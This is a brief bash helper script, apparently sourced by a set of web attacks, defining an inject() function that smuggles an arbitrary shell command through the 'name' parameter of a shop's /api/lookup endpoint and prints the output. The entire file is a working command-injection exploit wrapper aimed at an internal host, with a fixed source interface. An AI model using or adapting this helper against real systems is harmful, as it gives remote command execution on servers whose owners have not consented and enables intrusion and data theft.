#!/bin/bash
# Sourced by the web attacks. inject COMMAND: lets the shop's /lookup run it, and prints what it said.
inject() {
  curl -s -m 30 --interface 203.0.113.77 -G --data-urlencode "name=localhost; $1" http://10.20.0.5/api/lookup
}
